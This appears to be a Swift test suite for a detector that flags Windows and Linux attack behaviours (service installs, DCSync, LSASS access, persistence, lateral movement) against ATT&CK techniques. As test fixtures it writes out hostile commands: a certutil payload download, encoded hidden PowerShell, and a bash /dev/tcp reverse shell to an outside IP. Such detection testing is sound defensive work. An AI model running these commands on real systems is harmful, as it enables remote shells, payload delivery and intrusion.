import Testing
import VigilCore

@testable import Detectors

@Suite("ATT&CK host behaviours")
struct HostBehaviourDetectorTests {
    static let t0: EpochMillis = 1_790_000_000_000

    static func event(_ id: String, code: String, host: String = "SRV-1", user: String? = "mallory", command: String? = nil,
                      at time: EpochMillis = t0, name: String? = nil, _ properties: [String: String] = [:]) -> Event {
        var e = Event(id: id, time: time, kind: command == nil ? .other : .process, name: name, eventCode: code, user: user, device: host, command: command)
        e.properties = properties
        return e
    }

    @Test("a service installed to run through cmd.exe, first seen anywhere, is strong; a vendor's service on many hosts fades")
    func servicesByRarity() throws {
        var d = HostBehaviourDetector()
        let bad = d.process(Self.event("s1", code: "7045", ["Service Name": "x7f", "Service File Name": "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA"]))
        let signal = try #require(bad.first { $0.deviations.first?.feature == "service-installed" })
        #expect(signal.technique == "T1543.003")
        #expect(signal.score > 0.6)
        #expect(signal.entity == EntityRef(.host, "SRV-1"))
        #expect(signal.related == [EntityRef(.user, "mallory")])
        #expect(signal.deviations.first?.detail.contains("first seen on any host") == true)
        // The same vendor agent on twelve hosts: the twelfth is routine.
        var last: Signal?
        for i in 0..<12 {
            last = d.process(Self.event("v\(i)", code: "7045", host: "WS-\(i)", ["Service Name": "AgentSvc", "Service File Name": "C:\\Program Files\\Vendor\\agent.exe"])).first
        }
        #expect((last?.score ?? 1) < 0.1)
    }

    @Test("log clearing, DCSync by a user and LSASS read access are raised; a machine account's replication and a benign lsass query are not")
    func credentialAndEvasion() {
        var d = HostBehaviourDetector()
        #expect(d.process(Self.event("c1", code: "1102")).first?.technique == "T1070.001")
        let dcsync = d.process(Self.event("c2", code: "4662", host: "DC1", ["Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"]))
        #expect(dcsync.first?.technique == "T1003.006")
        var dc = Self.event("c3", code: "4662", host: "DC2", user: "DC1$", ["Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"])
        dc.properties[Event.accountClassProperty] = "machine"
        #expect(d.process(dc).isEmpty, "domain controllers replicate")
        let dump = d.process(Self.event("c4", code: "10", name: "Sysmon: ProcessAccess",
                                        ["Target Process Path": "C:\\Windows\\system32\\lsass.exe", "Granted Access": "0x1010", "Process Path": "C:\\Users\\m\\x.exe"]))
        #expect(dump.first?.technique == "T1003.001")
        let routine = d.process(Self.event("c5", code: "10", name: "Sysmon: ProcessAccess",
                                           ["Target Process Path": "C:\\Windows\\system32\\lsass.exe", "Granted Access": "0x1000", "Process Path": "C:\\Windows\\System32\\svchost.exe"]))
        #expect(routine.isEmpty)
        // Event id 10 from another log is not Sysmon's process access.
        #expect(d.process(Self.event("c6", code: "10", ["Target Process Path": "lsass.exe", "Granted Access": "0x1fffff"])).isEmpty)
    }

    @Test("command lines: LOLBins, encoded PowerShell, wmiexec shapes, Linux reverse shells; an ordinary command is nothing")
    func commands() {
        var d = HostBehaviourDetector()
        func behaviours(_ command: String, parent: String? = nil, host: String = "WS-9") -> Set<String> {
            var p: [String: String] = [:]
            if let parent { p["Parent Process Path"] = parent; p["Process Path"] = "C:\\Windows\\System32\\cmd.exe" }
            return Set(d.process(Self.event(command, code: "4688", host: host, command: command, p)).compactMap { $0.deviations.first?.feature })
        }
        #expect(behaviours("certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe").contains("certutil-download"))
        #expect(behaviours("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A").contains("encoded-powershell"))
        #expect(behaviours("cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1638 2>&1").contains("wmiexec-shell"))
        #expect(behaviours("bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'").contains("linux-reverse-shell"))
        #expect(behaviours("cmd.exe /c whoami", parent: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE").contains("office-spawned-shell"))
        #expect(behaviours("notepad.exe C:\\Users\\a\\notes.txt").isEmpty)
        // The same command on the same host the same day is raised once.
        #expect(behaviours("certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe").isEmpty)
        #expect(d.statistics.repeats >= 1)
    }

    @Test("tasks, privileged groups, autostart keys and executables copied to ADMIN$")
    func persistenceAndLateral() {
        var d = HostBehaviourDetector()
        let task = d.process(Self.event("t1", code: "4698", ["Task Name": "\\bouWFQYO", "Task Content": "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/C whoami &gt; C:\\Windows\\Temp\\x.tmp</Arguments></Exec></Actions></Task>"]))
        #expect((task.first?.score ?? 0) > 0.6, "a task that runs through cmd.exe")
        #expect(d.process(Self.event("g1", code: "4732", ["Group Name": "Administrators"])).first?.score == 0.6)
        #expect((d.process(Self.event("g2", code: "4732", host: "SRV-2", ["Group Name": "Print Queue Readers"])).first?.score ?? 1) < 0.3)
        let run = d.process(Self.event("r1", code: "13", name: "Sysmon: RegistryEvent (Value Set)",
                                       ["Registry Key": "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", "Process Path": "C:\\Users\\a\\u.exe"]))
        #expect(run.first?.technique == "T1547.001")
        let share = d.process(Self.event("a1", code: "5145", ["Share Name": "\\\\*\\ADMIN$", "Relative Target Name": "PSEXESVC.exe"]))
        #expect(share.first?.technique == "T1021.002")
        let pipe = d.process(Self.event("a2", code: "5145", ["Share Name": "\\\\*\\IPC$", "Relative Target Name": "svcctl"]))
        #expect(pipe.first?.technique == "T1569.002")
    }
}

@Suite("ATT&CK host behaviours: directory changes")
struct DirectoryChangeBehaviourTests {
    @Test func shadowCredentialsSpnsAndTheGuestAccount() {
        var d = HostBehaviourDetector()
        let shadow = d.process(HostBehaviourDetectorTests.event("d1", code: "5136", host: "DC1", ["Attribute Name": "msDS-KeyCredentialLink", "Object Name": "CN=svc,DC=corp"]))
        #expect(shadow.first?.technique == "T1556")
        let spn = d.process(HostBehaviourDetectorTests.event("d2", code: "5136", host: "DC1", ["Attribute Name": "servicePrincipalName"]))
        #expect(spn.first?.technique == "T1098")
        #expect(d.process(HostBehaviourDetectorTests.event("d3", code: "5136", host: "DC1", ["Attribute Name": "description"])).isEmpty)
        #expect(d.process(HostBehaviourDetectorTests.event("d4", code: "4722", ["Target Username": "Guest"])).first?.technique == "T1078.001")
        #expect(d.process(HostBehaviourDetectorTests.event("d5", code: "4722", ["Target Username": "jdoe"])).isEmpty)
    }
}
